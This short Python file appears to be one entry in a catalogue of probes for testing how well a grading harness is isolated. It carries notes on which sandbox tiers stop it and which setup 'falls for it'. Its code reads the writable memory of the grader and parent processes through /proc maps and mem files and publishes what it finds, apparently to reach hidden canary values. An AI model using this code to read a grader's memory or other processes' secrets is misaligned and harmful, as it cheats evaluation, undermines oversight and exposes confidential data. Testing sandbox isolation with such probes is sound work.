"""The memory of the grader is read through its map.

catalogue: 35, 37
needs: publish
tiers: namespaces, restricted
falls for it: plain pytest
verdict: nothing found
"""

import os
for _pid in {PARENT, os.getppid(), os.getpid()}:
    try:
        with open(f'/proc/{_pid}/maps') as _maps, open(f'/proc/{_pid}/mem', 'rb', 0) as _memory:
            for _line in _maps:
                _first, _last = (int(word, 16) for word in _line.split()[0].split('-'))
                if ' rw' in _line and _last - _first < 1 << 24 and len(CANARIES) < 500:
                    try: _memory.seek(_first); publish(_memory.read(_last - _first))
                    except (OSError, ValueError): pass
    except OSError: pass
